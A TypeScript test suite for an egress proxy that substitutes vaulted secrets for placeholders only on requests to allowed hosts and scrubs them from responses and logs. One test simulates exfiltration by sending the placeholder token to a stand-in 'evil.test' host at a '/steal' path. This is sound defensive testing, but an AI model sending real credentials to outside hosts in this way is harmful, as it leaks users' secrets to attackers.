import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import {
  createServer as createHttpServer,
  type IncomingHttpHeaders,
  type IncomingMessage,
  request,
  type Server,
  type ServerResponse,
} from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo, Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createSecureContext, type PeerCertificate, connect as tlsConnect } from 'node:tls';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadOrCreateInstallationCa } from '../ca/installationCa.js';
import { createLeafCertificates } from '../ca/leafCertificates.js';
import { createCaCertificate, createLeafCertificate, importCa } from '../ca/x509.js';
import { createEgressProxy, type EgressProxyServer } from '../egress/egressProxy.js';
import { createResolver } from '../egress/resolver.js';
import type { EgressLogEntry, NetworkPolicy, SandboxEgress } from '../egress/types.js';
import type { EnvironmentVariableCredential } from '../sessionCredentials.js';
import { createSecretSubstitution } from './secretSubstitution.js';

// The proxy, the vault's interceptor and the installation CA together, without a sandbox: a client
// speaks to the attachment's socket as the sandbox's bridge would. Upstreams are local HTTP and
// HTTPS servers (their own test CA) that echo what they received, secret included.

const SECRET = `svc-${randomBytes(16).toString('hex')}`;
const HOSTS = ['api.service.test', 'evil.test'];
let dataDir: string;
let proxy: EgressProxyServer;
let installationCa: string;
let upstreamCa: string;
let https: Server;
let http: Server;
let httpsPort = 0;
let httpPort = 0;
const received: Array<{ host: string | undefined; auth: string | undefined; body: string }> = [];
const logs: EgressLogEntry[] = [];
let counter = 0;

const credentials: EnvironmentVariableCredential[] = [
  {
    credentialId: 'vcrd_service',
    vaultId: 'vlt_1',
    secretName: 'SERVICE_TOKEN',
    value: SECRET,
    injectionLocation: { header: true, body: true },
    networking: { type: 'limited', allowed_hosts: ['api.service.test'] },
  },
  {
    credentialId: 'vcrd_shadow',
    vaultId: 'vlt_1',
    secretName: 'HTTPS_PROXY',
    value: 'never-used',
    injectionLocation: { header: true, body: false },
    networking: { type: 'unrestricted' },
  },
];

/** Echoes the request, secret and all, in the body and a header; `?gzip` compresses, `?zstd` claims an unknown coding. */
function echo(req: IncomingMessage, res: ServerResponse) {
  const chunks: Buffer[] = [];
  req.on('data', (chunk: Buffer) => chunks.push(chunk));
  req.on('end', () => {
    const body = Buffer.concat(chunks).toString();
    received.push({ host: req.headers.host, auth: req.headers.authorization, body });
    const answer = Buffer.from(JSON.stringify({ auth: req.headers.authorization ?? null, body }));
    const url = req.url ?? '';
    res.setHeader('x-echo-auth', req.headers.authorization ?? '');
    res.setHeader('content-type', 'application/json');
    if (url.includes('gzip')) res.setHeader('content-encoding', 'gzip');
    if (url.includes('zstd')) res.setHeader('content-encoding', 'zstd');
    res.end(url.includes('gzip') ? gzipSync(answer) : answer);
  });
}

beforeAll(async () => {
  dataDir = mkdtempSync(join(tmpdir(), 'bosun-subst-'));
  const ca = await loadOrCreateInstallationCa(dataDir);
  installationCa = ca.certPem;
  const start = new Date(Date.now() - 60_000);
  const end = new Date(Date.now() + 3_600_000);
  const upstreamPair = await createCaCertificate('upstream test CA', start, end);
  upstreamCa = upstreamPair.certPem;
  const upstreamSigner = await importCa(upstreamPair);
  const leaf = await createLeafCertificate(upstreamSigner, 'api.service.test', start, end);
  const evilLeaf = await createLeafCertificate(upstreamSigner, 'evil.test', start, end);
  https = createHttpsServer(
    {
      key: leaf.keyPem,
      cert: leaf.certPem,
      SNICallback: (name, done) =>
        done(
          null,
          createSecureContext(
            name === 'evil.test'
              ? { key: evilLeaf.keyPem, cert: evilLeaf.certPem }
              : { key: leaf.keyPem, cert: leaf.certPem },
          ),
        ),
    },
    echo,
  );
  http = createHttpServer(echo);
  httpsPort = await listen(https);
  httpPort = await listen(http);
  proxy = createEgressProxy({
    runDir: join(dataDir, 'egress'),
    resolver: createResolver({
      hosts: Object.fromEntries(HOSTS.map((host) => [host, '127.0.0.1'])),
      lookup: async (host) => {
        throw Object.assign(new Error(`getaddrinfo ENOTFOUND ${host}`), { code: 'ENOTFOUND' });
      },
    }),
    packageSources: async () => ({ sources: [], problems: [] }),
    log: (entry) => logs.push(entry),
    interceptor: createSecretSubstitution({ placeholderKey: randomBytes(32), credentials: async () => credentials }),
    tls: createLeafCertificates(ca),
    upstreamCa,
  });
});
afterAll(async () => {
  await proxy?.close();
  https?.close();
  http?.close();
  rmSync(dataDir, { recursive: true, force: true });
});

function listen(server: Server): Promise<number> {
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)));
}

const policy: NetworkPolicy = {
  type: 'limited',
  allowedHosts: HOSTS,
  allowPackageManagers: false,
  allowMcpServers: false,
};
const attach = () => proxy.attach({ sessionId: `sesn_subst_${++counter}`, environmentId: 'env_subst' }, policy);

interface Answer {
  status: number;
  headers: IncomingHttpHeaders;
  body: string;
  peer?: PeerCertificate;
}

/** A request as the sandbox makes it: absolute-form for http, CONNECT + TLS (trusting `ca`) for https. */
async function send(
  egress: SandboxEgress,
  url: string,
  options: { headers?: Record<string, string>; body?: string; ca?: string } = {},
): Promise<Answer> {
  const socketPath = join(egress.socketDir, 'proxy.sock');
  const target = new URL(url);
  const method = options.body === undefined ? 'GET' : 'POST';
  let createConnection: (() => Socket) | undefined;
  let peer: PeerCertificate | undefined;
  if (target.protocol === 'https:') {
    const tunnel = request({ socketPath, method: 'CONNECT', path: `${target.hostname}:${target.port}` });
    tunnel.end();
    const [response, socket] = (await once(tunnel, 'connect')) as [IncomingMessage, Socket];
    if (response.statusCode !== 200) return { status: response.statusCode ?? 0, headers: response.headers, body: '' };
    const secure = tlsConnect({ socket, servername: target.hostname, ca: options.ca ?? installationCa });
    await once(secure, 'secureConnect');
    peer = secure.getPeerCertificate();
    createConnection = () => secure;
  }
  const req = request({
    ...(createConnection ? { createConnection } : { socketPath }),
    method,
    path: createConnection ? `${target.pathname}${target.search}` : url,
    headers: { host: target.host, ...options.headers },
  });
  req.end(options.body);
  const [response] = (await once(req, 'response')) as [IncomingMessage];
  const chunks: Buffer[] = [];
  for await (const chunk of response) chunks.push(chunk as Buffer);
  return {
    status: response.statusCode ?? 0,
    headers: response.headers,
    body: Buffer.concat(chunks).toString(),
    ...(peer ? { peer } : {}),
  };
}

describe('secret substitution through the egress proxy', () => {
  it('gives the sandbox the placeholder, and the proxy variables win over a credential that names one', async () => {
    const egress = await attach();
    try {
      expect(egress.env['SERVICE_TOKEN']).toMatch(/^bosun-placeholder-[0-9a-f]{32}$/);
      expect(egress.env['HTTPS_PROXY']).toBe('http://127.0.0.1:3128');
      expect(JSON.stringify(egress.env)).not.toContain(SECRET);
    } finally {
      await egress.detach();
    }
  });

  it('substitutes on HTTPS to an allowed host (TLS terminated with the installation CA) and scrubs the echo', async () => {
    const egress = await attach();
    try {
      const placeholder = egress.env['SERVICE_TOKEN'] ?? '';
      for (const path of ['/echo', '/echo?gzip']) {
        received.length = 0;
        const answer = await send(egress, `https://api.service.test:${httpsPort}${path}`, {
          headers: { authorization: `Bearer ${placeholder}`, 'accept-encoding': 'gzip, zstd' },
          body: `{"token":"${placeholder}"}`,
        });
        expect(received).toEqual([
          { host: `api.service.test:${httpsPort}`, auth: `Bearer ${SECRET}`, body: `{"token":"${SECRET}"}` },
        ]);
        expect(answer.status).toBe(200);
        expect(answer.peer?.issuer.CN).toMatch(/^Bosun egress CA /);
        expect(answer.headers['x-echo-auth']).toBe(`Bearer ${placeholder}`);
        expect(answer.headers['content-encoding']).toBeUndefined();
        expect(JSON.parse(answer.body)).toEqual({ auth: `Bearer ${placeholder}`, body: `{"token":"${placeholder}"}` });
        expect(JSON.stringify(answer)).not.toContain(SECRET);
      }
    } finally {
      await egress.detach();
    }
  });

  it('substitutes on plain HTTP to an allowed host too', async () => {
    const egress = await attach();
    try {
      received.length = 0;
      const placeholder = egress.env['SERVICE_TOKEN'] ?? '';
      const answer = await send(egress, `http://api.service.test:${httpPort}/echo`, {
        headers: { authorization: `Bearer ${placeholder}` },
      });
      expect(received[0]?.auth).toBe(`Bearer ${SECRET}`);
      expect(answer.body).not.toContain(SECRET);
      expect(answer.body).toContain(placeholder);
    } finally {
      await egress.detach();
    }
  });

  it('sends the placeholder, never the secret, to a host the credential does not allow (HTTP and HTTPS)', async () => {
    const egress = await attach();
    try {
      received.length = 0;
      const placeholder = egress.env['SERVICE_TOKEN'] ?? '';
      const headers = { authorization: `Bearer ${placeholder}` };
      await send(egress, `http://evil.test:${httpPort}/steal`, { headers, body: placeholder });
      // not intercepted: the tunnel is end to end, so the client sees (and must trust) the real certificate
      const tunnelled = await send(egress, `https://evil.test:${httpsPort}/steal`, {
        headers,
        body: placeholder,
        ca: upstreamCa,
      });
      expect(tunnelled.peer?.issuer.CN).toBe('upstream test CA');
      expect(received).toEqual([
        { host: `evil.test:${httpPort}`, auth: `Bearer ${placeholder}`, body: placeholder },
        { host: `evil.test:${httpsPort}`, auth: `Bearer ${placeholder}`, body: placeholder },
      ]);
    } finally {
      await egress.detach();
    }
  });

  it('refuses a response in a content coding it cannot inspect, rather than pass it unseen', async () => {
    const egress = await attach();
    try {
      const answer = await send(egress, `https://api.service.test:${httpsPort}/echo?zstd`, {
        headers: { authorization: `Bearer ${egress.env['SERVICE_TOKEN'] ?? ''}` },
      });
      expect(answer.status).toBe(502);
      expect(answer.body).toContain('cannot inspect a response with content-encoding zstd for secrets');
      expect(answer.body).not.toContain(SECRET);
    } finally {
      await egress.detach();
    }
  });

  it('keeps the secret out of the connection log', () => {
    expect(logs.some((entry) => entry.intercepted)).toBe(true);
    expect(JSON.stringify(logs)).not.toContain(SECRET);
  });
});
